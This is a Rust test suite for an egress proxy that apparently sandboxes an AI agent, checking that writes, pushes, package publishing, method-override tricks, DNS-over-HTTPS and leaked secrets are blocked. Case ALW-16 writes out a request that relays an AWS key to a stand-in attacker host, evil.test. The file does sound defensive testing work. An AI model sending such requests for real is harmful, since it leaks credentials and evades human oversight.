//! ALW: an allowed destination as the way out.

use super::{Case, Finding, POLICY, Scene, case, ensure, family};
use crate::harness::{Request, Way, World, secrets};

#[tokio::test]
async fn an_allowed_destination_is_allowed_for_what_its_rule_says() {
    family("outlets", World::with_policy(POLICY), CASES).await;
}

const CASES: &[Case] = &[
    case("ALW-01", "uploading files to a model's vendor", |scene| {
        Box::pin(async move {
            let files = Request::post("llm.test", "/v1/files", "data").header("x-api-key", "somebody-elses");
            scene.denied(Way::Http1, &files, "unknown_destination").await?;
            scene.passes(Way::Http1, &Request::post("llm.test", "/v1/messages", "{}")).await.map(drop)
        })
    }),
    case("ALW-04", "asking to push where only reading is allowed", |scene| {
        Box::pin(async move {
            let path = |service: &str| format!("/o/r.git/info/refs?service={service}");
            scene.passes(Way::Http1, &Request::get("ro.test", &path("git-upload-pack"))).await?;
            denied(scene, &[Request::get("ro.test", &path("git-receive-pack"))]).await
        })
    }),
    case("ALW-05", "pushing where only fetching is allowed", |scene| {
        Box::pin(async move {
            let push = Request::post("ro.test", "/o/r.git/git-receive-pack", "0000");
            scene.denied(Way::Http1, &push, "unknown_destination").await?;
            scene
                .passes(Way::Http1, &Request::post("ro.test", "/o/r.git/git-upload-pack", "0000"))
                .await
                .map(drop)
        })
    }),
    case("ALW-09", "publishing where only reading is allowed", |scene| {
        Box::pin(async move {
            let npm = Request::post("reg.test", "/pkg", "{}").method("PUT");
            let twine = Request::post("reg.test", "/legacy/", "x");
            let cargo = Request::post("reg.test", "/api/v1/crates/new", "x").method("PUT");
            denied(scene, &[npm, twine, cargo]).await
        })
    }),
    case("ALW-11", "writing to a forge where only reading is allowed", |scene| {
        Box::pin(async move {
            let gist = Request::post("ro.test", "/gists", "{}");
            let comment = Request::post("ro.test", "/repos/o/r/issues/1/comments", "{}");
            denied(scene, &[gist, comment]).await
        })
    }),
    case("ALW-12", "writing to a signed address where only reading is allowed", |scene| {
        Box::pin(async move {
            let signature = "0f1e2d3c4b5a69788796a5b4c3d2e1f0";
            let put =
                Request::post("reg.test", &format!("/k?X-Amz-Signature={signature}"), "x").method("PUT");
            let (answer, trace) = scene.trace(1, scene.agent().send(Way::Http1, &put)).await;
            answer.must_be(403, "unknown_destination")?;
            trace.must_be_one_refusal("unknown_destination")?;
            ensure(!trace.rows[0].0.to_string().contains(signature), || format!("{trace:#?}"))
        })
    }),
    case("ALW-13", "another method in a header", |scene| {
        Box::pin(async move {
            let post = Request::post("ro.test", "/x", "x").header("x-http-method-override", "GET");
            denied(scene, &[post]).await?;
            for name in ["x-http-method", "x-http-method-override", "x-method-override"] {
                let get = Request::get("ro.test", "/x").header(name, "DELETE");
                let (answer, trace) = scene.trace(1, scene.agent().send(Way::Http1, &get)).await;
                let stripped = trace.seen.iter().all(|seen| seen.header(name).is_none());
                ensure(answer.status == 403 || stripped, || format!("{name}: {answer:?}\n{trace:#?}"))?;
            }
            Ok(())
        })
    }),
    case("ALW-14", "methods that nobody thinks of", |scene| {
        Box::pin(async move {
            for method in ["PROPFIND", "REPORT", "UPLOAD", "MKCOL", "get"] {
                denied(scene, &[Request::get("ro.test", "/x").method(method)]).await?;
            }
            Ok(())
        })
    }),
    case("ALW-15", "name resolution through an allowed host is at least seen", |scene| {
        Box::pin(async move {
            let post = Request::post("allowed.test", "/dns-query", "x");
            let post =
                Request { headers: vec![("content-type".into(), "application/dns-message".into())], ..post };
            for request in [
                post,
                Request::get("allowed.test", "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"),
            ] {
                let (_, trace) = scene.trace(1, scene.agent().send(Way::Http1, &request)).await;
                ensure(trace.rows[0].findings().contains(&"dns_over_https"), || format!("{trace:#?}"))?;
            }
            Ok(())
        })
    }),
    case("ALW-16", "a secret in an address handed to an allowed relay", |scene| {
        Box::pin(async move {
            let secret = secrets::aws_access_key();
            for query in [format!("url=http%3A%2F%2Fevil.test%2F%3Fd%3D{secret}"), format!("u={secret}")] {
                let request = Request::get("allowed.test", &format!("/proxy?{query}"));
                scene.denied(Way::Http2, &request, "secret_found").await?;
            }
            let clean = Request::get("allowed.test", "/proxy?url=http%3A%2F%2Fevil.test%2F");
            let (_, trace) = scene.passes(Way::Http2, &clean).await?;
            ensure(trace.rows[0].text("path").ends_with("?url=[redacted:query]"), || format!("{trace:#?}"))
        })
    }),
];

async fn denied(scene: &Scene, requests: &[Request]) -> Finding {
    for request in requests {
        let denied = scene.denied(Way::Http1, request, "unknown_destination").await;
        denied.map_err(|problem| format!("{} {}: {problem}", request.method, request.path))?;
    }
    Ok(())
}
